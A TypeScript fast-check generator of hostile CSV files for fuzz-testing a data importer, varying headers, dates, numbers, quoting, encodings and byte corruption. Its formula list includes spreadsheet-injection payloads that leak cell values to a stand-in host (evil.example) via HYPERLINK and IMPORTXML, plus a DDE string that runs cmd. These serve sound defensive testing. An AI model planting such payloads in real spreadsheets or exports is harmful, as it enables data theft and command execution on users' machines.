import fc from 'fast-check';
import { FIELDS, KINDS, type Kind } from '../../../src/shared/kinds';

/**
 * Files people should never have exported but do: every kind's header (whole, partial, shuffled,
 * misspelt), cells that are formulas, control characters, huge, out of range or impossible dates,
 * broken quoting, odd delimiters and line ends, the wrong encoding, truncation, stray bytes.
 */

export interface HostileFile {
  readonly kind: Kind;
  /** What the importer is told: nothing (recognition), or the kind. */
  readonly givenKind: boolean;
  readonly skipInvalid: boolean;
  readonly bytes: Uint8Array;
  /** How the file was made, for the failure message. */
  readonly recipe: string;
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  "'=1+1",
];

const NUMBERS = ['1e400', '-1e400', 'NaN', 'Infinity', '-Infinity', '-0', '0x1F', '99999999999999999999999', '1,234.56', '1.234,56', '1 234', '12%', '$40', '-1', '10001', '1e-400', '٣', '１２', '.', '-', '+', '1..2'];

const DATES = ['2024-02-30', '2023-02-29', '1900-02-29', '2024-13-01', '2024-00-10', '0000-00-00', '9999-12-31', '31/04/2024', '04/31/2024', '13/13/2024', '2024-03-01T25:00:00', '2024-03-01T23:61:00', '2024-03-01T12:00:00+25:00', '2024-03-01 12:00', '2024-3-1', '1/1/24', '45000', '-45000', 'yesterday', '2024-02-29', '29.02.2023', '2024-W09-1'];

const WEIRD = ['', ' ', '""', '"', "'", 'null', 'NULL', 'undefined', 'true', 'yes', 'ja', 'X', '\u0000', '\uFEFF', '\u202E', '\u00A0', '\u2028', 'é', 'Ã©', '😀', '\\', '\\n', ',', ';', '\n', '\r\n', '"quoted"', 'a"b', 'sep=,'];

const ENUM_WORDS = ['break_fix', 'preventive', 'install', 'inspection', 'other', 'completed', 'incomplete', 'cancelled', 'low', 'medium', 'high', 'critical', 'us', 'competitor', 'warranty', 'full_service', 'open', 'done', 'replace'];

const controlText = fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), maxLength: 6 });
const anyText = fc.string({ unit: 'binary', maxLength: 24 });
const hugeText = fc.integer({ min: 20_000, max: 400_000 }).chain((n) => fc.constantFrom('x', 'é', '"', ',', '\n').map((c) => c.repeat(n)));
const goodDate = fc.date({ min: new Date('1990-01-01T00:00:00Z'), max: new Date('2030-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
const goodId = fc.stringMatching(/^[A-Z]{1,3}-?[0-9]{1,5}$/);
const goodNumber = fc.double({ min: -1e6, max: 1e6, noNaN: true }).map((n) => String(Math.round(n * 100) / 100));

export const cell: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.oneof(goodId, goodDate, goodNumber, fc.constantFrom(...ENUM_WORDS), fc.integer({ min: 0, max: 10 }).map(String)) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom(...DATES) },
  { weight: 2, arbitrary: fc.constantFrom(...WEIRD) },
  { weight: 1, arbitrary: controlText },
  { weight: 2, arbitrary: anyText },
  { weight: 1, arbitrary: fc.constant('').chain(() => fc.oneof({ weight: 30, arbitrary: fc.constant('') }, { weight: 1, arbitrary: hugeText })) },
);

/** A header for the kind: its fields (usually with the required ones), sometimes with junk or misspelt names. */
function header(kind: Kind): fc.Arbitrary<string[]> {
  const names = FIELDS[kind].map((f) => f.name);
  const required = FIELDS[kind].filter((f) => f.required).map((f) => f.name);
  return fc
    .tuple(fc.shuffledSubarray(names, { minLength: 0 }), fc.boolean(), fc.array(fc.oneof(anyText, fc.constantFrom(...WEIRD, ...FORMULAS)), { maxLength: 2 }), fc.boolean())
    .map(([some, keepRequired, junk, upper]) => {
      const chosen = keepRequired ? [...new Set([...required, ...some])] : some;
      const all = [...chosen, ...junk];
      return upper ? all.map((n) => n.toUpperCase().replace(/_/g, ' ')) : all;
    });
}

type Quoting = 'needed' | 'always' | 'broken';

function quote(value: string, delimiter: string, quoting: Quoting, breakIt: boolean): string {
  // An opening quote never closed, or a stray quote inside an unquoted value.
  if (quoting === 'broken' && breakIt) return value.length % 2 === 0 ? `"${value}` : `${value.slice(0, 1)}"${value.slice(1)}`;
  if (quoting === 'always' || /["\r\n]/.test(value) || value.includes(delimiter)) return `"${value.replace(/"/g, '""')}"`;
  return value;
}

type Encoding = 'utf-8' | 'utf-8-bom' | 'utf-16le-bom' | 'utf-16be-bom' | 'utf-16le' | 'latin1' | 'utf-8-then-latin1';

function encode(text: string, encoding: Encoding): Uint8Array {
  switch (encoding) {
    case 'utf-8':
      return Buffer.from(text, 'utf8');
    case 'utf-8-bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    case 'utf-16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf-16be-bom': {
      const le = Buffer.from(text, 'utf16le');
      return Buffer.concat([Buffer.from([0xfe, 0xff]), le.swap16()]);
    }
    case 'utf-16le':
      return Buffer.from(text, 'utf16le');
    case 'latin1':
      return Buffer.from(text, 'latin1');
    case 'utf-8-then-latin1': {
      // Half the file in one encoding and half in the other: what concatenated exports look like.
      const cut = Math.floor(text.length / 2);
      return Buffer.concat([Buffer.from(text.slice(0, cut), 'utf8'), Buffer.from(text.slice(cut), 'latin1')]);
    }
  }
}

type MutationValue = null | { type: 'truncate'; at: number } | { type: 'flip'; at: Array<[number, number]> };

const mutation: fc.Arbitrary<MutationValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.record({ type: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }) },
  { weight: 1, arbitrary: fc.record({ type: fc.constant('flip' as const), at: fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }) }) },
);

function mutate(bytes: Uint8Array, m: MutationValue): Uint8Array {
  if (m === null) return bytes;
  if (m.type === 'truncate') return bytes.subarray(0, Math.floor(bytes.length * m.at));
  const out = Uint8Array.from(bytes);
  for (const [at, value] of m.at) if (out.length > 0) out[Math.floor(at * out.length)] = value;
  return out;
}

/** A text export of the kind, made hostile. */
function textFile(kind: Kind): fc.Arbitrary<HostileFile> {
  return fc
    .record({
      header: header(kind),
      rows: fc.array(fc.array(cell, { minLength: 0, maxLength: 24 }), { maxLength: 12 }),
      delimiter: fc.constantFrom(',', ';', '\t', '|'),
      newline: fc.constantFrom('\n', '\r\n', '\r'),
      quoting: fc.constantFrom<Quoting>('needed', 'needed', 'always', 'broken'),
      breakAt: fc.integer({ min: 0, max: 400 }),
      encoding: fc.constantFrom<Encoding>('utf-8', 'utf-8', 'utf-8', 'utf-8-bom', 'utf-16le-bom', 'utf-16be-bom', 'utf-16le', 'latin1', 'utf-8-then-latin1'),
      trailingNewline: fc.boolean(),
      mutation,
      givenKind: fc.boolean(),
      skipInvalid: fc.boolean(),
    })
    .map((r) => {
      // Rows as wide as the header most of the time: the width is what a real export gets right.
      const width = r.header.length;
      let n = 0;
      const line = (cells: readonly string[]): string => cells.map((c) => quote(c, r.delimiter, r.quoting, n++ === r.breakAt % 50)).join(r.delimiter);
      const rows = r.rows.map((cells, i) => (i % 3 === 2 || width === 0 ? cells : Array.from({ length: width }, (_, j) => cells[j % Math.max(cells.length, 1)] ?? '')));
      const text = [r.header, ...rows].map(line).join(r.newline) + (r.trailingNewline ? r.newline : '');
      const bytes = mutate(encode(text, r.encoding), r.mutation);
      return {
        kind,
        givenKind: r.givenKind,
        skipInvalid: r.skipInvalid,
        bytes,
        recipe: `${kind} ${r.encoding}, delimiter ${JSON.stringify(r.delimiter)}, newline ${JSON.stringify(r.newline)}, quoting ${r.quoting}, ${r.rows.length} rows, mutation ${JSON.stringify(r.mutation)}`,
      };
    });
}

/** Any bytes at all, sometimes behind a plausible header. */
function randomBytes(kind: Kind): fc.Arbitrary<HostileFile> {
  return fc.record({ bytes: fc.uint8Array({ maxLength: 3000 }), withHeader: fc.boolean(), givenKind: fc.boolean(), skipInvalid: fc.boolean() }).map((r) => ({
    kind,
    givenKind: r.givenKind,
    skipInvalid: r.skipInvalid,
    bytes: r.withHeader ? Buffer.concat([Buffer.from(FIELDS[kind].map((f) => f.name).join(',') + '\n'), r.bytes]) : r.bytes,
    recipe: `${kind} random bytes${r.withHeader ? ' after a header' : ''}`,
  }));
}

export function hostileFile(kinds: readonly Kind[] = KINDS): fc.Arbitrary<HostileFile> {
  return fc.constantFrom(...kinds).chain((kind) => fc.oneof({ weight: 5, arbitrary: textFile(kind) }, { weight: 1, arbitrary: randomBytes(kind) }));
}
